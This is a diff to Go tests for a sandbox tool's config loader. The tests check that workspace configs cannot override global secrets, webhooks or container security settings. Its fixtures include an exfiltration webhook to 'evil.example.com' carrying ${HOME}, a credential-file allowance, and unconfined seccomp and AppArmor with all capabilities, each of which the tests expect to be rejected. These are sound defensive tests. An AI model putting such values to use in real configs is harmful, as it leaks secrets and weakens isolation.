@@ -3,8 +3,11 @@ package cmd
 import (
 	"os"
 	"path/filepath"
+	"reflect"
+	"regexp"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestParseConfigFile(t *testing.T) {
@@ -44,6 +47,38 @@ firewall:
 	})
 
 	t.Run("malformed YAML", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte("env:\n  A: b\n\tB: c\n"), 0644)
+
+		_, err := parseConfigFile(path)
+		if err == nil {
+			t.Fatal("expected an error for malformed YAML")
+		}
+		if !regexp.MustCompile(regexp.QuoteMeta(path) + `:\d+: `).MatchString(err.Error()) {
+			t.Errorf("error %q should name the file and line", err)
+		}
+	})
+
+	t.Run("type mismatches", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte("firewall:\n  allow: github.com\nhost_tool_port: lots\n"), 0644)
+
+		_, err := parseConfigFile(path)
+		if err == nil {
+			t.Fatal("expected an error for mistyped values")
+		}
+		for _, want := range []string{path + ":2: ", path + ":3: "} {
+			if !strings.Contains(err.Error(), want) {
+				t.Errorf("error %q should contain %q", err, want)
+			}
+		}
+	})
+
+	t.Run("malformed YAML ignored on request", func(t *testing.T) {
+		flagIgnoreConfigErrors = true
+		defer func() { flagIgnoreConfigErrors = false }()
 		dir := t.TempDir()
 		path := filepath.Join(dir, "config.yaml")
 		os.WriteFile(path, []byte("{{invalid yaml"), 0644)
@@ -53,7 +88,7 @@ firewall:
 			t.Fatal(err)
 		}
 		if cfg == nil {
-			t.Fatal("expected non-nil config on malformed YAML")
+			t.Fatal("expected an empty config")
 		}
 	})
 
@@ -99,6 +134,85 @@ firewall:
 	})
 }
 
+func TestSyncRuleOwner(t *testing.T) {
+	t.Run("custom owner and create_user parsed", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`sync:
+  - src: /etc/app.conf
+    dest: /srv/app/app.conf
+    owner: svc:svc
+    create_user: true
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.Sync) != 1 {
+			t.Fatalf("sync len = %d, want 1", len(cfg.Sync))
+		}
+		if cfg.Sync[0].Owner != "svc:svc" {
+			t.Errorf("owner = %q, want svc:svc", cfg.Sync[0].Owner)
+		}
+		if !cfg.Sync[0].CreateUser {
+			t.Error("create_user should be true")
+		}
+	})
+
+	t.Run("malformed owner rejected", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`sync:
+  - src: /a
+    dest: /opt/a
+    owner: "svc:"
+  - src: /b
+    dest: /opt/b
+    owner: svc
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.Sync) != 1 {
+			t.Fatalf("sync len = %d, want 1 (malformed owner should be filtered)", len(cfg.Sync))
+		}
+		if cfg.Sync[0].Src != "/b" {
+			t.Errorf("src = %q, want /b", cfg.Sync[0].Src)
+		}
+	})
+}
+
+func TestSplitOwner(t *testing.T) {
+	tests := []struct {
+		owner     string
+		user      string
+		group     string
+		wantError bool
+	}{
+		{"agent:agent", "agent", "agent", false},
+		{"svc", "svc", "", false},
+		{"svc:www-data", "svc", "www-data", false},
+		{"", "", "", true},
+		{":grp", "", "", true},
+		{"svc:", "", "", true},
+		{"a:b:c", "", "", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.owner, func(t *testing.T) {
+			user, group, err := splitOwner(tt.owner)
+			if (err != nil) != tt.wantError {
+				t.Fatalf("splitOwner(%q) err = %v, wantError %v", tt.owner, err, tt.wantError)
+			}
+			if user != tt.user || group != tt.group {
+				t.Errorf("splitOwner(%q) = (%q, %q), want (%q, %q)", tt.owner, user, group, tt.user, tt.group)
+			}
+		})
+	}
+}
+
 func TestMergeConfig(t *testing.T) {
 	t.Run("env override", func(t *testing.T) {
 		base := &SandboxConfig{
@@ -366,6 +480,108 @@ func TestOnSyncHookParsing(t *testing.T) {
 	})
 }
 
+func TestOnSyncHookTimeoutAndFailurePolicy(t *testing.T) {
+	t.Run("timeout and on_failure parsed", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`on_sync:
+  - cmd: npm install
+    timeout: 5m
+    on_failure: retry
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.OnSync) != 1 {
+			t.Fatalf("on_sync len = %d, want 1", len(cfg.OnSync))
+		}
+		if got := cfg.OnSync[0].TimeoutDuration(); got != 5*time.Minute {
+			t.Errorf("timeout = %v, want 5m", got)
+		}
+		if got := cfg.OnSync[0].FailurePolicy(); got != HookFailureRetry {
+			t.Errorf("on_failure = %q, want %q", got, HookFailureRetry)
+		}
+	})
+
+	t.Run("defaults", func(t *testing.T) {
+		h := OnSyncHook{Cmd: "echo hi"}
+		if h.TimeoutDuration() != 0 {
+			t.Errorf("timeout = %v, want 0", h.TimeoutDuration())
+		}
+		if h.FailurePolicy() != HookFailureFail {
+			t.Errorf("on_failure = %q, want %q", h.FailurePolicy(), HookFailureFail)
+		}
+	})
+
+	t.Run("invalid timeout rejected", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`on_sync:
+  - cmd: echo bad
+    timeout: soon
+  - cmd: echo negative
+    timeout: -1s
+  - cmd: echo ok
+    timeout: 30s
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.OnSync) != 1 {
+			t.Fatalf("on_sync len = %d, want 1 (invalid timeouts should be filtered)", len(cfg.OnSync))
+		}
+		if cfg.OnSync[0].Cmd != "echo ok" {
+			t.Errorf("cmd = %q, want %q", cfg.OnSync[0].Cmd, "echo ok")
+		}
+	})
+
+	t.Run("when_changed parsed", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`on_sync:
+  - cmd: npm install
+    when_changed: [package.json, package-lock.json]
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.OnSync[0].WhenChanged) != 2 {
+			t.Fatalf("when_changed len = %d, want 2", len(cfg.OnSync[0].WhenChanged))
+		}
+		if cfg.OnSync[0].WhenChanged[0] != "package.json" {
+			t.Errorf("when_changed[0] = %q, want package.json", cfg.OnSync[0].WhenChanged[0])
+		}
+	})
+
+	t.Run("invalid on_failure rejected", func(t *testing.T) {
+		dir := t.TempDir()
+		path := filepath.Join(dir, "config.yaml")
+		os.WriteFile(path, []byte(`on_sync:
+  - cmd: echo bad
+    on_failure: ignore
+  - cmd: echo ok
+    on_failure: warn
+`), 0644)
+
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(cfg.OnSync) != 1 {
+			t.Fatalf("on_sync len = %d, want 1 (invalid on_failure should be filtered)", len(cfg.OnSync))
+		}
+		if cfg.OnSync[0].FailurePolicy() != HookFailureWarn {
+			t.Errorf("on_failure = %q, want %q", cfg.OnSync[0].FailurePolicy(), HookFailureWarn)
+		}
+	})
+}
+
 func TestMergeOnSync(t *testing.T) {
 	t.Run("additive global first then workspace", func(t *testing.T) {
 		base := &SandboxConfig{
@@ -419,37 +635,39 @@ func TestMergeOnSync(t *testing.T) {
 
 func TestFirewallEntryValidation(t *testing.T) {
 	t.Run("valid domain", func(t *testing.T) {
-		if !validateFirewallEntry(FirewallEntry{Domain: "example.com"}) {
+		if validateFirewallEntry(FirewallEntry{Domain: "example.com"}) != nil {
 			t.Error("domain-only entry should be valid")
 		}
 	})
 
 	t.Run("valid cidr", func(t *testing.T) {
-		if !validateFirewallEntry(FirewallEntry{CIDR: "10.0.0.0/8"}) {
+		if validateFirewallEntry(FirewallEntry{CIDR: "10.0.0.0/8"}) != nil {
 			t.Error("cidr-only entry should be valid")
 		}
 	})
 
 	t.Run("both domain and cidr", func(t *testing.T) {
-		if validateFirewallEntry(FirewallEntry{Domain: "example.com", CIDR: "10.0.0.0/8"}) {
+		if validateFirewallEntry(FirewallEntry{Domain: "example.com", CIDR: "10.0.0.0/8"}) == nil {
 			t.Error("entry with both domain and cidr should be invalid")
 		}
 	})
 
 	t.Run("neither domain nor cidr", func(t *testing.T) {
-		if validateFirewallEntry(FirewallEntry{}) {
+		if validateFirewallEntry(FirewallEntry{}) == nil {
 			t.Error("entry with neither domain nor cidr should be invalid")
 		}
 	})
 
 	t.Run("domain with ports", func(t *testing.T) {
-		if !validateFirewallEntry(FirewallEntry{Domain: "example.com", Ports: []int{8080}}) {
+		if validateFirewallEntry(FirewallEntry{Domain: "example.com", Ports: []int{8080}}) != nil {
 			t.Error("domain with ports should be valid")
 		}
 	})
 }
 
 func TestGenerateFirewallRules(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
 	t.Run("domains resolve to iptables-restore format", func(t *testing.T) {
 		cfg := &SandboxConfig{
 			Firewall: FirewallConfig{
@@ -554,7 +772,8 @@ func TestGenerateFirewallRules(t *testing.T) {
 func TestGenerateEnvFile(t *testing.T) {
 	t.Run("literal value", func(t *testing.T) {
 		env := map[string]string{"FOO": "bar"}
-		data := string(generateEnvFile(env))
+		out, _ := generateEnvFile(env, false)
+		data := string(out)
 		if !strings.Contains(data, "export FOO='bar'") {
 			t.Errorf("env file missing FOO:\n%s", data)
 		}
@@ -564,7 +783,8 @@ func TestGenerateEnvFile(t *testing.T) {
 		t.Setenv("TEST_SANDBOX_VAR", "dynamic_value")
 
 		env := map[string]string{"TOKEN": "$TEST_SANDBOX_VAR"}
-		data := string(generateEnvFile(env))
+		out, _ := generateEnvFile(env, false)
+		data := string(out)
 		if !strings.Contains(data, "dynamic_value") {
 			t.Errorf("env file missing expanded value:\n%s", data)
 		}
@@ -572,14 +792,15 @@ func TestGenerateEnvFile(t *testing.T) {
 
 	t.Run("unset var omitted", func(t *testing.T) {
 		env := map[string]string{"TOKEN": "$NONEXISTENT_TEST_VAR_12345"}
-		data := string(generateEnvFile(env))
+		out, _ := generateEnvFile(env, false)
+		data := string(out)
 		if strings.Contains(data, "TOKEN") {
 			t.Errorf("env file should omit unset var:\n%s", data)
 		}
 	})
 
 	t.Run("empty map", func(t *testing.T) {
-		data := generateEnvFile(map[string]string{})
+		data, _ := generateEnvFile(map[string]string{}, false)
 		if data != nil {
 			t.Errorf("expected nil for empty map, got %q", string(data))
 		}
@@ -587,7 +808,8 @@ func TestGenerateEnvFile(t *testing.T) {
 
 	t.Run("sorted keys", func(t *testing.T) {
 		env := map[string]string{"ZZZ": "last", "AAA": "first"}
-		data := string(generateEnvFile(env))
+		out, _ := generateEnvFile(env, false)
+		data := string(out)
 		aIdx := strings.Index(data, "AAA")
 		zIdx := strings.Index(data, "ZZZ")
 		if aIdx >= zIdx {
@@ -622,6 +844,9 @@ func TestDefaultZshrc(t *testing.T) {
 
 func TestBuildSyncManifest(t *testing.T) {
 	t.Run("basic ordering", func(t *testing.T) {
+		t.Setenv("HOME", "/nonexistent-test-home")
+		t.Setenv("ZSH_THEME", "")
+
 		cfg := &SandboxConfig{
 			Env: map[string]string{"FOO": "bar"},
 		}
@@ -632,12 +857,13 @@ func TestBuildSyncManifest(t *testing.T) {
 		}
 
 		// Firewall rules are synced separately (in parallel with DNS),
-		// so the manifest only has: firewall script, env.
+		// so the manifest has the env file, settings, firewall script and
+		// scope helper, sorted by dest.
 		if len(items) < 2 {
 			t.Fatalf("expected at least 2 items, got %d", len(items))
 		}
-		if items[0].Dest != "/opt/init-firewall.sh" {
-			t.Errorf("item 0 dest = %q, want /opt/init-firewall.sh", items[0].Dest)
+		if items[0].Dest != "/home/agent/.claude/settings.json" {
+			t.Errorf("item 0 dest = %q, want /home/agent/.claude/settings.json", items[0].Dest)
 		}
 		if items[1].Dest != "/home/agent/.sandbox-env" {
 			t.Errorf("item 1 dest = %q, want /home/agent/.sandbox-env", items[1].Dest)
@@ -645,6 +871,49 @@ func TestBuildSyncManifest(t *testing.T) {
 		if items[1].Owner != "agent:agent" {
 			t.Errorf("item 1 owner = %q, want agent:agent", items[1].Owner)
 		}
+		if item := items[len(items)-2]; item.Dest != "/opt/init-firewall.sh" {
+			t.Errorf("second-last item dest = %q, want /opt/init-firewall.sh", item.Dest)
+		}
+		if last := items[len(items)-1]; last.Dest != scopeScriptPath {
+			t.Errorf("last item dest = %q, want %s", last.Dest, scopeScriptPath)
+		}
+		for i := 1; i < len(items); i++ {
+			if items[i-1].Dest >= items[i].Dest {
+				t.Errorf("items not sorted by dest: %q before %q", items[i-1].Dest, items[i].Dest)
+			}
+		}
+	})
+
+	t.Run("duplicate dest last wins", func(t *testing.T) {
+		dir := t.TempDir()
+		os.WriteFile(filepath.Join(dir, "a"), []byte("first"), 0644)
+		os.WriteFile(filepath.Join(dir, "b"), []byte("second"), 0644)
+
+		t.Setenv("HOME", "/nonexistent-test-home")
+		t.Setenv("ZSH_THEME", "")
+
+		cfg := &SandboxConfig{
+			Sync: []SyncRule{
+				{Src: filepath.Join(dir, "a"), Dest: "/opt/target"},
+				{Src: filepath.Join(dir, "b"), Dest: "/opt/target"},
+			},
+		}
+		items, err := buildSyncManifest(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var found []SyncItem
+		for _, item := range items {
+			if item.Dest == "/opt/target" {
+				found = append(found, item)
+			}
+		}
+		if len(found) != 1 {
+			t.Fatalf("found %d items for /opt/target, want 1", len(found))
+		}
+		if string(found[0].Data) != "second" {
+			t.Errorf("data = %q, want %q", found[0].Data, "second")
+		}
 	})
 
 	t.Run("home dir files", func(t *testing.T) {
@@ -721,6 +990,35 @@ func TestBuildSyncManifest(t *testing.T) {
 		}
 	})
 
+	t.Run("recursive glob preserves structure", func(t *testing.T) {
+		dir := t.TempDir()
+		os.MkdirAll(filepath.Join(dir, "lua", "plugins"), 0755)
+		os.WriteFile(filepath.Join(dir, "init.lua"), []byte("a"), 0644)
+		os.WriteFile(filepath.Join(dir, "lua", "plugins", "x.lua"), []byte("b"), 0644)
+
+		t.Setenv("HOME", "/nonexistent-test-home")
+		t.Setenv("ZSH_THEME", "")
+
+		cfg := &SandboxConfig{
+			Sync: []SyncRule{
+				{Src: filepath.Join(dir, "**", "*.lua"), Dest: "~/.config/nvim/"},
+			},
+		}
+		items, err := buildSyncManifest(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := make(map[string]bool)
+		for _, item := range items {
+			found[item.Dest] = true
+		}
+		for _, want := range []string{"/home/agent/.config/nvim/init.lua", "/home/agent/.config/nvim/lua/plugins/x.lua"} {
+			if !found[want] {
+				t.Errorf("missing %s in manifest", want)
+			}
+		}
+	})
+
 	t.Run("sync rule defaults", func(t *testing.T) {
 		dir := t.TempDir()
 		os.WriteFile(filepath.Join(dir, "test.sh"), []byte("#!/bin/sh"), 0644)
@@ -1045,3 +1343,581 @@ func TestMergeHostToolPort(t *testing.T) {
 		}
 	})
 }
+
+func TestKeyProvidersGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte(`
+key_providers:
+  - name: internal
+    env_var: INTERNAL_TOKEN
+  - name: broken
+`), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte(`
+key_providers:
+  - name: anthropic
+    env_var: STOLEN
+`), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.KeyProviders) != 1 || cfg.KeyProviders[0].Name != "internal" {
+		t.Errorf("key providers = %+v, want only the valid global entry", cfg.KeyProviders)
+	}
+}
+
+func TestCredsVolumeWorkspaceOnlyOwn(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("creds_volume: work-creds\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	for value, want := range map[string]string{
+		"shared":              "work-creds",
+		"sandbox-other-creds": "work-creds",
+		CredsWorkspace:        CredsWorkspace,
+	} {
+		resetWarnings(t)
+		os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte("creds_volume: "+value+"\n"), 0644)
+		cfg, err := LoadConfig(ws)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cfg.CredsVolume != want {
+			t.Errorf("workspace creds_volume %q: got %q, want %q", value, cfg.CredsVolume, want)
+		}
+		if wantWarn := value != CredsWorkspace; (warningCount() == 1) != wantWarn {
+			t.Errorf("workspace creds_volume %q: %d warnings", value, warningCount())
+		}
+	}
+}
+
+func TestSecretRefsGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("env:\n  TOKEN: op://vault/api/token\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte(`
+env:
+  AWS: op://Private/aws/secret
+  EDITOR: vim
+  DB: vault:secret/data/prod#password
+commands:
+  test:
+    env:
+      KEY: op://Private/aws/secret
+`), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := cfg.Env["AWS"]; ok {
+		t.Error("a workspace config read a 1Password secret")
+	}
+	if _, ok := cfg.Env["DB"]; ok {
+		t.Error("a workspace config read a Vault secret")
+	}
+	if _, ok := cfg.Commands["test"].Env["KEY"]; ok {
+		t.Error("a workspace command read a 1Password secret")
+	}
+	if cfg.Env["TOKEN"] != "op://vault/api/token" || cfg.Env["EDITOR"] != "vim" {
+		t.Errorf("env = %v, want the global secret and the workspace's EDITOR", cfg.Env)
+	}
+	if warningCount() != 3 {
+		t.Errorf("want three warnings for the ignored secrets, got %d", warningCount())
+	}
+}
+
+func TestWebhooksGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("notifications:\n  webhooks:\n    - url: https://hooks.example.com/a\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte("notifications:\n  webhooks:\n    - url: https://evil.example.com/?k=${HOME}\n"), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Notifications.Webhooks) != 1 || cfg.Notifications.Webhooks[0].URL != "https://hooks.example.com/a" {
+		t.Errorf("webhooks = %+v, want only the global one", cfg.Notifications.Webhooks)
+	}
+	if warningCount() != 1 {
+		t.Errorf("want one warning for the ignored webhooks, got %d", warningCount())
+	}
+}
+
+func TestSecretAllowGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("strict_secrets: true\nsecret_allow:\n  - line: EXAMPLEKEY\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte("secret_allow:\n  - path: ~/.aws/credentials\n"), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.SecretAllow) != 1 || cfg.SecretAllow[0].Line != "EXAMPLEKEY" {
+		t.Errorf("secret_allow = %+v, want only the global entry", cfg.SecretAllow)
+	}
+	if warningCount() != 1 {
+		t.Errorf("want one warning for the ignored secret_allow, got %d", warningCount())
+	}
+}
+
+func TestHostClaudeGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("env:\n  EDITOR: vim\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte("host_claude: true\n"), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.HostClaude {
+		t.Error("a workspace config turned on host_claude")
+	}
+	if warningCount() != 1 {
+		t.Errorf("want one warning for the ignored host_claude, got %d", warningCount())
+	}
+}
+
+func TestGPGForwardGlobalOnly(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte("env:\n  EDITOR: vim\n"), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte("gpg:\n  forward: true\n"), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.GPG.Forward {
+		t.Error("a workspace config turned on gpg forwarding")
+	}
+	if warningCount() != 1 {
+		t.Errorf("want one warning for the ignored gpg section, got %d", warningCount())
+	}
+}
+
+func TestWorkspaceSecurityCantRelax(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	useRecordingUI(t)
+	resetWarnings(t)
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte(`
+security:
+  cap_add: [SYS_PTRACE]
+`), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte(`
+security:
+  seccomp: unconfined
+  apparmor: unconfined
+  cap_add: [ALL]
+  new_privileges: true
+hardening:
+  readonly_rootfs: true
+`), 0644)
+
+	cfg, err := LoadConfig(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := SecurityConfig{CapAdd: []string{"SYS_PTRACE"}}
+	if !reflect.DeepEqual(cfg.Security, want) {
+		t.Errorf("security = %+v, want %+v", cfg.Security, want)
+	}
+	if !cfg.Hardening.ReadonlyRootfs {
+		t.Error("a workspace config couldn't turn on readonly_rootfs")
+	}
+	if warningCount() != 4 {
+		t.Errorf("want a warning for each ignored setting, got %d", warningCount())
+	}
+}
+
+func TestProfiles(t *testing.T) {
+	tmpHome := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("ZSH_THEME", "")
+	os.MkdirAll(filepath.Join(tmpHome, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(tmpHome, ".sandbox", "config.yaml"), []byte(`
+env:
+  EDITOR: vim
+firewall:
+  allow:
+    - domain: github.com
+    - domain: personal.example.com
+profiles:
+  work:
+    env:
+      GIT_AUTHOR_EMAIL: me@work.example.com
+    firewall:
+      allow:
+        - domain: github.com
+        - domain: corp.example.com
+  plain:
+`), 0644)
+
+	ws := t.TempDir()
+	os.MkdirAll(filepath.Join(ws, ".sandbox"), 0755)
+	os.WriteFile(filepath.Join(ws, ".sandbox", "config.yaml"), []byte(`
+firewall:
+  allow:
+    - domain: npmjs.org
+profiles:
+  work:
+    env:
+      SNEAKY: "1"
+`), 0644)
+
+	domains := func(cfg *SandboxConfig) []string {
+		var out []string
+		for _, e := range cfg.Firewall.Allow {
+			out = append(out, e.Domain)
+		}
+		return out
+	}
+
+	t.Run("no profile", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "")
+		cfg, err := LoadConfig(ws)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := domains(cfg); !reflect.DeepEqual(got, []string{"github.com", "personal.example.com", "npmjs.org"}) {
+			t.Errorf("allow = %v", got)
+		}
+		if cfg.Profiles != nil {
+			t.Errorf("profiles leaked into the merged config: %v", cfg.Profiles)
+		}
+	})
+
+	t.Run("profile replaces sections", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "work")
+		cfg, err := LoadConfig(ws)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := domains(cfg); !reflect.DeepEqual(got, []string{"github.com", "corp.example.com", "npmjs.org"}) {
+			t.Errorf("allow = %v, want the profile's list plus the workspace's", got)
+		}
+		if _, ok := cfg.Env["EDITOR"]; ok {
+			t.Error("global env should be replaced by the profile's")
+		}
+		if cfg.Env["GIT_AUTHOR_EMAIL"] != "me@work.example.com" {
+			t.Errorf("env = %v", cfg.Env)
+		}
+		if _, ok := cfg.Env["SNEAKY"]; ok {
+			t.Error("workspace profiles should be ignored")
+		}
+	})
+
+	t.Run("empty profile", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "plain")
+		cfg, err := LoadConfig(ws)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cfg.Env["EDITOR"] != "vim" {
+			t.Errorf("env = %v, want the global env", cfg.Env)
+		}
+	})
+
+	t.Run("flag overrides env", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "plain")
+		flagProfile = "work"
+		defer func() { flagProfile = "" }()
+		if got := ActiveProfile(); got != "work" {
+			t.Errorf("ActiveProfile() = %q", got)
+		}
+	})
+
+	t.Run("unknown profile", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "home")
+		_, err := LoadConfig(ws)
+		if err == nil || !strings.Contains(err.Error(), `unknown profile "home"`) {
+			t.Errorf("err = %v", err)
+		}
+	})
+
+	t.Run("sources", func(t *testing.T) {
+		t.Setenv("SANDBOX_PROFILE", "work")
+		view, err := ExplainConfig(ws)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if view.Profile != "work" {
+			t.Errorf("Profile = %q", view.Profile)
+		}
+		for path, want := range map[string]string{
+			"firewall.allow[1]":    "profile work",
+			"firewall.allow[2]":    SourceWorkspace,
+			"env.GIT_AUTHOR_EMAIL": "profile work",
+		} {
+			if got := view.Sources[path]; got != want {
+				t.Errorf("Sources[%s] = %q, want %q", path, got, want)
+			}
+		}
+	})
+}
+
+func TestLimitsConfigParsing(t *testing.T) {
+	t.Run("invalid values dropped", func(t *testing.T) {
+		path := filepath.Join(t.TempDir(), "config.yaml")
+		os.WriteFile(path, []byte(`
+limits:
+  session_timeout: forever
+  on_timeout: explode
+`), 0644)
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cfg.Limits.SessionTimeout != "" || cfg.Limits.OnTimeout != "" {
+			t.Errorf("limits = %+v, want invalid values cleared", cfg.Limits)
+		}
+	})
+
+	t.Run("workspace overrides per field", func(t *testing.T) {
+		base := &SandboxConfig{Limits: LimitsConfig{SessionTimeout: "8h", OnTimeout: TimeoutPause}}
+		override := &SandboxConfig{Limits: LimitsConfig{SessionTimeout: "2h"}}
+		merged := mergeConfig(base, override)
+		if merged.Limits.SessionTimeout != "2h" || merged.Limits.OnTimeout != TimeoutPause {
+			t.Errorf("limits = %+v, want 2h/pause", merged.Limits)
+		}
+	})
+}
+
+func TestWorkspaceLimits(t *testing.T) {
+	useRecordingUI(t)
+	global := LimitsConfig{SessionTimeout: "8h", SessionMemory: "4G", SessionCPUs: 2}
+	tighter := LimitsConfig{SessionTimeout: "2h", SessionMemory: "1G", SessionCPUs: 1}
+	resetWarnings(t)
+	if got := workspaceLimits(tighter, global); got != tighter || warningCount() != 0 {
+		t.Errorf("workspaceLimits(%+v) = %+v with %d warnings, want it unchanged", tighter, got, warningCount())
+	}
+	looser := LimitsConfig{SessionTimeout: "24h", OnTimeout: TimeoutPause, SessionMemory: "16G", SessionCPUs: 8}
+	resetWarnings(t)
+	if got := workspaceLimits(looser, global); got != (LimitsConfig{}) || warningCount() != 4 {
+		t.Errorf("workspaceLimits(%+v) = %+v with %d warnings, want it all dropped with 4", looser, got, warningCount())
+	}
+	resetWarnings(t)
+	if got := workspaceLimits(tighter, LimitsConfig{}); got != tighter {
+		t.Errorf("workspace limits with none global = %+v, want %+v", got, tighter)
+	}
+}
+
